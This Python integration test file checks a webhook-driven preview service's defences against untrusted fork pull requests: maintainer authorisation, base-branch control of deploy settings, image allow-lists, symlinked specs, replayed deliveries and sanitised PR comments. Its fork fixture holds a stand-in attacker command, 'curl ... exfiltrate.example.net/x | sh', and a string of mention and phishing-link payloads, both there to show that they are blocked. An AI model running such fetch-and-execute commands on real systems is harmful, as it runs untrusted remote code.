"""Attacks by an untrusted pull request (a fork, a first-time contributor) and by whoever can
replay a signed webhook delivery, against the real webhook router, the GitHub stand-in (REST +
git's smart HTTP with installation tokens), the worker's task and the pipeline. The VM is
replaced by a recorder of what would have been deployed (no deploy happens), so each test shows
what the worker *would* have run.

1. a fork's pull request does not run until someone with write access clicks "Authorize run";
2. its VM image, deploy commands and allowed origins come from the base branch's spec;
3. an image is used only by the repositories its recipe allows;
4. a ``.diffie.yml`` committed as a symbolic link is not followed to a host file;
5. replayed or stale deliveries start and cancel nothing; a 503 is redeliverable;
6. text from the app cannot mention, link or reference anything in the PR comment, and an
   internal error's text never reaches GitHub.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import shutil
import subprocess
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from diffie import publishing, run_store
from diffie.api import create_app
from diffie.app_context import AppContext
from diffie.composition import build_context, with_deps
from diffie.control import Quiet
from diffie.errors import DeployError
from diffie.fakes import FakeMachine, FakeSandbox
from diffie.github.comments import MARKER
from diffie.github.plugin import GitHubPublisher
from diffie.models import Run
from diffie.pipeline import run_change
from diffie.run_store import ChangeInput
from diffie.sandbox.base import Machine
from diffie.spec import SandboxSpec, Spec
from diffie.verdict import Finding, Verdict, judge
from tests.conftest import make_settings
from tests.github_standin import (
    GitHubStandIn,
    GitSmartHTTP,
    commit_files,
    git,
    make_rsa_key,
    publish_bare,
)
from tests.paths import FIXTURES
from workers import tasks

pytestmark = pytest.mark.integration

PRIVATE, PUBLIC = make_rsa_key()
OWNER, REPO, INSTALLATION, NUMBER = "acme", "shop", 77, 5
SECRET = "sec-github-secret"
MAINTAINER, STRANGER = "maintainer-mo", "drive-by-dee"
CMARK = shutil.which("cmark-gfm")

BASE_SPEC = """\
flows:
  - name: home
    steps: [{goto: /}]
allowed_origins: [https://fonts.example.com]
sandbox:
  image: shop
  source_dir: /srv/shop
  deploy: ["echo base-deploy"]
  port: 8000
"""
FORK_SPEC = """\
flows:
  - name: home
    steps: [{goto: /}]
  - name: fork-flow
    steps: [{goto: /cart}]
allowed_origins: [https://exfiltrate.example.net]
sandbox:
  image: evil
  source_dir: /srv/shop
  deploy: ["curl -s https://exfiltrate.example.net/x | sh"]
  port: 8000
"""


# -- the world ------------------------------------------------------------------------------------

@dataclass
class World:
    tmp: Path
    standin: GitHubStandIn
    git_server: GitSmartHTTP
    ctx: AppContext
    client: TestClient
    work: Path
    base: str
    enqueued: list[str] = field(default_factory=list)
    deployed: list[SandboxSpec] = field(default_factory=list)
    clock: int = 0

    @property
    def publisher(self) -> GitHubPublisher:
        return next(x for x in self.ctx.events._listeners if isinstance(x, GitHubPublisher))

    def push(self, files: dict[str, str], *, owner: str = OWNER, message: str = "change") -> str:
        sha = commit_files(self.work, files, message)
        publish_bare(self.work, self.tmp / "srv", owner, REPO)
        return sha

    def repo_json(self, owner: str) -> dict[str, Any]:
        return {"name": REPO, "full_name": f"{owner}/{REPO}", "owner": {"login": owner},
                "clone_url": self.git_server.clone_url(owner, REPO)}

    def pr_body(self, action: str, head: str, *, head_owner: str = OWNER,
                association: str = "OWNER", updated_at: str | None = None) -> bytes:
        data = json.loads((FIXTURES / "github" / "pull_request.opened.json").read_bytes())
        data["action"] = action
        data["installation"]["id"] = INSTALLATION
        data["repository"].update(self.repo_json(OWNER))
        pr = data["pull_request"]
        data["number"] = pr["number"] = NUMBER
        pr["base"]["sha"], pr["head"]["sha"] = self.base, head
        pr["base"]["repo"].update(self.repo_json(OWNER))
        pr["head"]["repo"].update(self.repo_json(head_owner))
        pr["author_association"] = association
        if updated_at is None:
            self.clock += 1
            updated_at = f"2030-01-01T00:{self.clock // 60:02d}:{self.clock % 60:02d}Z"
        pr["updated_at"] = updated_at
        return json.dumps(data).encode()

    def check_run_body(self, run_id: str, check_id: int, head: str, *, sender: str,
                       action: str = "requested_action", identifier: str = "authorize") -> bytes:
        data = json.loads((FIXTURES / "github" / "check_run.requested_action.json").read_bytes())
        data["action"] = action
        data["installation"]["id"] = INSTALLATION
        data["repository"].update(self.repo_json(OWNER))
        cr = data["check_run"]
        cr.update(id=check_id, external_id=run_id, name="Diffie", head_sha=head,
                  pull_requests=[])
        cr["app"]["id"] = int(self.standin.app_id)
        data["requested_action"] = {"identifier": identifier}
        data["sender"]["login"] = sender
        return json.dumps(data).encode()

    def send(self, event: str, body: bytes, *, delivery: str | None = None) -> Any:
        sig = "sha256=" + hmac.new(SECRET.encode(), body, hashlib.sha256).hexdigest()
        return self.client.post("/webhooks/github", content=body, headers={
            "X-GitHub-Event": event, "X-GitHub-Delivery": delivery or str(uuid.uuid4()),
            "X-GitHub-Hook-ID": "1", "X-Hub-Signature-256": sig,
            "Content-Type": "application/json"})

    def open_fork_pr(self, head: str) -> str:
        answer = self.send("pull_request", self.pr_body("opened", head, head_owner="forker",
                                                        association="NONE")).json()
        assert answer["status"] == "waiting", answer
        return str(answer["run_id"])

    def row(self, run_id: str) -> Run:
        with self.ctx.db.session() as s:
            run = s.get(Run, run_id)
            assert run is not None
            s.expunge(run)
            return run

    def authorize(self, run_id: str, head: str, sender: str = MAINTAINER) -> Any:
        check_id = self.row(run_id).check_run_id
        assert check_id is not None, "the waiting run has no check run"
        return self.send("check_run", self.check_run_body(run_id, check_id, head,
                                                          sender=sender)).json()

    def comment(self) -> str:
        ours = [c["body"] for c in self.standin.comments_on(OWNER, REPO, NUMBER)
                if c["body"].startswith(MARKER)]
        assert len(ours) == 1, ours
        return str(ours[0])


class RecordingSandbox(FakeSandbox):
    """Fake VMs that record the image; deploys are recorded by ``World.deployed``. One slot:
    head is leased only after base is done, so a refused base deploy is the run's last."""

    def __init__(self) -> None:
        super().__init__(slots=1)
        self.images: list[str] = []

    @contextmanager
    def lease(self, image: str, *, run_id: str = "",
              wait_s: float | None = None,
              on_slot: Callable[[], None] | None = None) -> Iterator[FakeMachine]:
        with super().lease(image, run_id=run_id, wait_s=wait_s, on_slot=on_slot) as machine:
            self.images.append(image)
            yield machine


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
    work = tmp_path / "work"
    work.mkdir()
    git(work, "init", "-q", "-b", "main")
    base = commit_files(work, {".diffie.yml": BASE_SPEC, "app.txt": "v1"}, "base")
    publish_bare(work, tmp_path / "srv", OWNER, REPO)
    key = tmp_path / "app.pem"
    key.write_bytes(PRIVATE)
    with GitHubStandIn(app_id="4321", public_key_pem=PUBLIC) as standin, \
            GitSmartHTTP(tmp_path / "srv", standin.is_valid_token) as git_server:
        standin.grant(OWNER, REPO, MAINTAINER, "write")
        standin.grant(OWNER, REPO, STRANGER, "read")
        settings = make_settings(
            tmp_path / "data", github_app_id=standin.app_id, github_private_key_path=key,
            github_api_url=standin.url, github_webhook_secret=SECRET,
            public_url="https://diffie.example.com", github_sweep_interval_s=0.0)
        ctx = build_context(settings)
        w = World(tmp_path, standin, git_server, ctx, TestClient(create_app(context=ctx)), work,
                  base)
        ctx.enqueue_fn = w.enqueued.append
        publishing.publish_inline(ctx)

        def record_deploy(machine: Machine, source: Path, spec: SandboxSpec,
                          *a: Any, **kw: Any) -> str:
            w.deployed.append(spec)
            raise DeployError("deploys are recorded, not run, in these tests")

        with_deps(ctx, sandbox=RecordingSandbox(), deploy=record_deploy)
        try:
            with w.client:
                yield w
        finally:
            ctx.close()
        assert standin.violations == [], standin.violations


def run_worker(w: World, run_id: str, job: tasks.Job = run_change) -> Run:
    tasks.execute_run(w.ctx, run_id, "worker-1", job)
    return w.row(run_id)


# -- 1. a maintainer authorises a fork's run ---------------------------------------------------------

def test_a_fork_pull_request_waits_for_a_maintainer_with_write_access(world: World) -> None:
    head = world.push({"app.txt": "v2"}, owner="forker")
    run_id = world.open_fork_pr(head)
    assert world.enqueued == [] and world.row(run_id).status == "waiting"
    cr = world.standin.check_runs[world.row(run_id).check_run_id or 0]
    assert (cr["status"], cr["conclusion"]) == ("completed", "action_required")
    assert [a["identifier"] for a in cr["actions"]] == ["authorize"]
    assert world.client.get("/v1/runs", params={"status": "waiting"}).json()[0]["id"] == run_id

    # someone without write access clicks the button: refused, the run stays waiting
    refused = world.authorize(run_id, head, sender=STRANGER)
    assert refused["status"] == "refused", refused
    assert STRANGER in refused["reason"] and "read permission" in refused["reason"]
    assert "write, maintain or admin" in refused["reason"]
    assert world.enqueued == [] and world.row(run_id).status == "waiting"
    asked = world.standin.calls("GET", rf"/repos/{OWNER}/{REPO}/collaborators/{STRANGER}/permission")
    assert asked and asked[0].auth == "token"

    # a maintainer does: the run is queued, with a new check run (a completed one cannot
    # go back to queued), and the old one says who authorised it
    granted = world.authorize(run_id, head)
    assert (granted["status"], granted["run_id"]) == ("queued", run_id), granted
    assert world.enqueued == [run_id]
    row = world.row(run_id)
    assert (row.status, row.authorized_by) == ("queued", MAINTAINER)
    assert row.check_run_id not in (None, cr["id"])
    assert world.standin.check_runs[row.check_run_id or 0]["status"] == "queued"
    assert world.standin.check_runs[cr["id"]]["conclusion"] == "neutral"
    # a second click (another maintainer's) changes nothing
    world.standin.grant(OWNER, REPO, "admin-al", "admin")
    again = world.send("check_run", world.check_run_body(run_id, cr["id"], head,
                                                         sender="admin-al")).json()
    assert again["status"] == "refused" and "not waiting" in again["reason"], again
    assert world.enqueued == [run_id]


def test_waiting_runs_are_superseded_never_requeued_and_rerun_waits_again(world: World) -> None:
    head1 = world.push({"app.txt": "v2"}, owner="forker")
    run1 = world.open_fork_pr(head1)
    # the stale-run and lost-run recoveries leave a waiting run alone, however old
    assert run_store.requeue_stale(world.ctx.db, stale_after_s=0) == []
    assert run_store.requeue_lost(world.ctx.db, queued_after_s=0, max_attempts=3) == ([], [])
    assert world.row(run1).status == "waiting"
    # "Re-run" on its check run is no way around the maintainer
    check_id = world.row(run1).check_run_id or 0
    rerun = world.send("check_run", world.check_run_body(run1, check_id, head1, sender=STRANGER,
                                                         action="rerequested")).json()
    assert rerun["status"] == "waiting", rerun
    assert world.enqueued == []
    # a new push supersedes the waiting run(s), and waits again
    head2 = world.push({"app.txt": "v3"}, owner="forker")
    sync = world.send("pull_request", world.pr_body("synchronize", head2, head_owner="forker",
                                                    association="NONE")).json()
    assert sync["status"] == "waiting" and rerun["run_id"] in sync["superseded"], sync
    assert world.row(rerun["run_id"]).status == "cancelled" and world.enqueued == []
    # closing the pull request cancels the waiting run
    world.send("pull_request", world.pr_body("closed", head2, head_owner="forker"))
    assert world.row(sync["run_id"]).status == "cancelled"


def test_first_time_contributors_and_per_repository_policy(world: World) -> None:
    head = world.push({"app.txt": "v2"})
    # default policy "forks": a first-time contributor's same-repository branch runs
    first = world.send("pull_request", world.pr_body("opened", head,
                                                     association="FIRST_TIME_CONTRIBUTOR")).json()
    assert first["status"] == "queued", first
    world.ctx.settings.github_require_approval = "first-time"
    head2 = world.push({"app.txt": "v3"})
    second = world.send("pull_request", world.pr_body("synchronize", head2,
                                                      association="FIRST_TIME_CONTRIBUTOR"))
    assert second.json()["status"] == "waiting", second.text
    # per repository: acme/shop requires nothing, whatever the default
    world.ctx.settings.github_require_approval_by = {"acme/shop": "none", "acme": "all"}
    head3 = world.push({"app.txt": "v4"}, owner="forker")
    third = world.send("pull_request", world.pr_body("synchronize", head3, head_owner="forker",
                                                     association="NONE")).json()
    assert third["status"] == "queued", third


# -- 2. the sandbox of an untrusted head comes from the base ------------------------------------------

def test_a_fork_cannot_choose_its_image_deploy_commands_or_origins(world: World) -> None:
    head = world.push({".diffie.yml": FORK_SPEC}, owner="forker")
    run_id = world.open_fork_pr(head)
    world.authorize(run_id, head)
    run_worker(world, run_id)
    assert world.ctx.deps.sandbox.images == ["shop"]  # type: ignore[attr-defined]
    [sandbox] = world.deployed                   # the base side's deploy (recorded, refused)
    assert sandbox.deploy == ["echo base-deploy"]
    # the spec the run followed (kept in its artifacts): the base's origins, the head's flows
    spec = Spec.model_validate_json(
        (world.ctx.settings.artifacts_dir / run_id / "spec.json").read_text())
    assert spec.sandbox == sandbox
    assert spec.allowed_origins == ["https://fonts.example.com"]
    assert [f.name for f in spec.flows] == ["home", "fork-flow"]   # the head's flows


def test_a_fork_of_a_repository_without_a_base_spec_ends_error(world: World) -> None:
    git(world.work, "rm", "-q", ".diffie.yml")
    git(world.work, "commit", "-q", "-m", "no spec on the base")
    world.base = git(world.work, "rev-parse", "HEAD")
    publish_bare(world.work, world.tmp / "srv", OWNER, REPO)
    head = world.push({".diffie.yml": FORK_SPEC}, owner="forker")
    run_id = world.open_fork_pr(head)
    world.authorize(run_id, head)
    row = run_worker(world, run_id)
    assert row.status == "error" and world.deployed == []
    assert "not found at base" in (row.reason or "") and "fork" in (row.reason or "")


# -- 3. images and the repositories their recipes allow ----------------------------------------------

def test_an_image_is_used_only_by_the_repositories_its_recipe_allows(world: World) -> None:
    images = world.tmp / "images"
    (images / "shop").mkdir(parents=True)
    (images / "shop" / "recipe.yml").write_text(
        "ready: {command: 'true'}\nallowed_repositories: [acme/*, octo/site]\n")
    world.ctx.settings.vm_images_dir = images
    # evil/shop's pull request names the shop image in its own (trusted, same-repo) spec
    world.standin.grant("evil", REPO, "evil", "admin")

    def change(repository: str | None) -> ChangeInput:
        # a repository's change read from a local clone (the image rule is by repository name)
        return ChangeInput(run_id=uuid.uuid4().hex, mode="repo", repo=str(world.work),
                           base_rev=world.base, head_rev=world.base, repository=repository)

    verdict = run_change(change("evil/shop"), world.ctx.deps, Quiet())
    assert verdict.status == "error" and world.deployed == []
    assert "'shop'" in (verdict.reason or "") and "allowed_repositories" in (verdict.reason or "")
    assert "evil/shop" in (verdict.reason or "")
    # the owner's glob lets acme/shop use it; a local run (no repository) is not limited
    run_change(change("ACME/shop"), world.ctx.deps, Quiet())
    run_change(change(None), world.ctx.deps, Quiet())
    assert len(world.deployed) == 2


def test_the_bundled_shop_image_allows_the_e2e_repository_only() -> None:
    from diffie.sandbox.recipe import read_recipe, repository_allowed
    from tests.github_e2e import OWNER as E2E_OWNER
    from tests.github_e2e import REPO as E2E_REPO

    recipe = read_recipe(Path(__file__).resolve().parents[2] / "vm_images", "shop")
    assert repository_allowed(recipe, f"{E2E_OWNER}/{E2E_REPO}")
    assert not repository_allowed(recipe, "someone-else/shop")


# -- 4. a symbolic link is not followed to a host file ------------------------------------------------

def test_a_symlinked_spec_is_not_followed_to_a_host_file(world: World) -> None:
    host_file = world.tmp / "host-secret.yml"       # a file on the worker host, not in the repo
    host_file.write_text(BASE_SPEC.replace("echo base-deploy", "echo HOST-CANARY"))
    link = world.work / ".diffie.yml"
    link.unlink()
    os.symlink(host_file, link)
    git(world.work, "add", "-A")
    git(world.work, "commit", "-q", "-m", "spec is a link")
    head = git(world.work, "rev-parse", "HEAD")
    publish_bare(world.work, world.tmp / "srv", OWNER, REPO)
    answer = world.send("pull_request", world.pr_body("opened", head)).json()
    assert answer["status"] == "queued", answer
    row = run_worker(world, answer["run_id"])
    assert row.status == "error" and world.deployed == []
    assert "symbolic link" in (row.reason or "") and "HOST-CANARY" not in json.dumps(row.verdict)


# -- 5. webhooks: stale heads, replays, a broker outage ----------------------------------------------

def test_a_replayed_old_delivery_neither_starts_nor_cancels(world: World) -> None:
    old_head = world.push({"app.txt": "old"})
    old_body = world.pr_body("synchronize", old_head, updated_at="2030-01-01T10:00:00Z")
    old = world.send("pull_request", old_body).json()
    new_head = world.push({"app.txt": "new"})
    new = world.send("pull_request", world.pr_body("synchronize", new_head,
                                                   updated_at="2030-01-01T10:05:00Z")).json()
    assert new["superseded"] == [old["run_id"]]
    # the old delivery again, under a new delivery id (the header is not signed) ...
    replay = world.send("pull_request", old_body)
    assert replay.json()["status"] == "duplicate", replay.text
    # ... or an old delivery never seen before (GitHub delivered it late): ignored as stale
    late = world.send("pull_request", world.pr_body("synchronize", old_head,
                                                    updated_at="2030-01-01T10:01:00Z")).json()
    assert late["status"] == "ignored" and late["reason"].startswith("stale head"), late
    late_close = world.send("pull_request", world.pr_body(
        "closed", old_head, updated_at="2030-01-01T10:02:00Z")).json()
    assert late_close["status"] == "ignored" and "stale head" in late_close["reason"]
    assert world.row(new["run_id"]).status == "queued"
    assert world.enqueued == [old["run_id"], new["run_id"]]


def test_a_delivery_answered_503_is_redeliverable(world: World) -> None:
    head = world.push({"app.txt": "v2"})
    body = world.pr_body("opened", head)

    def broker_down(run_id: str) -> None:
        raise ConnectionError("redis is down")

    world.ctx.enqueue_fn = broker_down
    down = world.send("pull_request", body, delivery="d-503")
    assert down.status_code == 503, down.text
    world.ctx.enqueue_fn = world.enqueued.append
    again = world.send("pull_request", body, delivery="d-503")    # GitHub's "Redeliver"
    assert again.status_code == 202 and again.json()["status"] == "queued", again.text
    assert "redeliver" in down.text
    assert world.enqueued == [again.json()["run_id"]]


# -- 6. what reaches the pull request ---------------------------------------------------------------

EVIL = ("@octocat @acme/owners see #1 acme/shop#2 GH-3 http://phish.example/login "
        "www.phish.example ada@phish.example <a href='https://x.example'>x</a> "
        "[click](https://phish.example) &#64;octocat | pipe")


def _links(markdown: str) -> list[str]:
    assert CMARK is not None, "cmark-gfm is needed (scripts/bootstrap.sh installs it)"
    html = subprocess.run([CMARK, "-e", "autolink", "-e", "table"], input=markdown.encode(),
                          capture_output=True, check=True).stdout.decode()
    return [part.split('"', 1)[0] for part in html.split('<a href="')[1:]]


def test_app_text_in_the_pr_comment_links_mentions_and_references_nothing(
        world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    head = world.push({"app.txt": "v2"})
    run_id = world.send("pull_request", world.pr_body("opened", head)).json()["run_id"]

    def pipeline(change: ChangeInput, *a: Any) -> Verdict:
        f = Finding(kind="console_error", flow="home", viewport="desktop", step=1,
                    message=EVIL, details={"key": "k"})
        return judge(change.run_id, [f], flows=1, viewports=1,
                     report_url="https://diffie.example.com/r")

    run_worker(world, run_id, pipeline)
    body = world.comment()
    summary = world.standin.check_runs[world.row(run_id).check_run_id or 0]["output"]["summary"]
    for text in (body, summary):
        assert all(link.startswith("https://diffie.example.com/") for link in _links(text)), text
        for mention in ("@octocat", "@acme", "#1", "#2", "GH-3"):
            assert mention not in text
        assert "@\u200boctocat" in text and "#\u200b1" in text and "GH-\u200b3" in text


def test_an_internal_error_never_reaches_github(world: World,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    head = world.push({"app.txt": "v2"})
    run_id = world.send("pull_request", world.pr_body("opened", head)).json()["run_id"]

    def pipeline(*a: Any) -> Verdict:
        raise KeyError("/srv/diffie/secret-internal-path")

    row = run_worker(world, run_id, pipeline)
    assert row.status == "error" and "KeyError" in (row.reason or "")   # the record keeps it
    body = world.comment()
    cr = world.standin.check_runs[row.check_run_id or 0]
    for text in (body, cr["output"]["summary"], cr["output"]["title"]):
        assert "KeyError" not in text and "secret-internal-path" not in text
    assert f"internal error; see the run on the server (id {run_id})" in body


def test_a_new_base_re_runs_and_a_title_edit_does_not(world: World) -> None:
    head = world.push({"app.txt": "head"})
    first = world.send("pull_request", world.pr_body("opened", head)).json()
    # the pull request is retargeted: edited, with changes.base; GitHub's body has the new base
    old_base = world.base
    world.base = world.push({"app.txt": "another base"}, message="new base")
    data = json.loads(world.pr_body("edited", head))
    data["changes"] = {"base": {"ref": {"from": "master"}, "sha": {"from": old_base}}}
    data["pull_request"]["base"]["ref"] = "release"
    rerun = world.send("pull_request", json.dumps(data).encode()).json()
    assert rerun["status"] == "queued" and rerun["superseded"] == [first["run_id"]], rerun
    with world.ctx.db.session() as s:
        run = s.get(Run, rerun["run_id"])
        assert run is not None and run.change.base_rev == world.base != old_base
    # a title or body edit changes nothing
    data = json.loads(world.pr_body("edited", head))
    data["changes"] = {"title": {"from": "an older title"}}
    edited = world.send("pull_request", json.dumps(data).encode()).json()
    assert edited["status"] == "ignored" and "without a new base" in edited["reason"], edited
    assert world.enqueued == [first["run_id"], rerun["run_id"]]
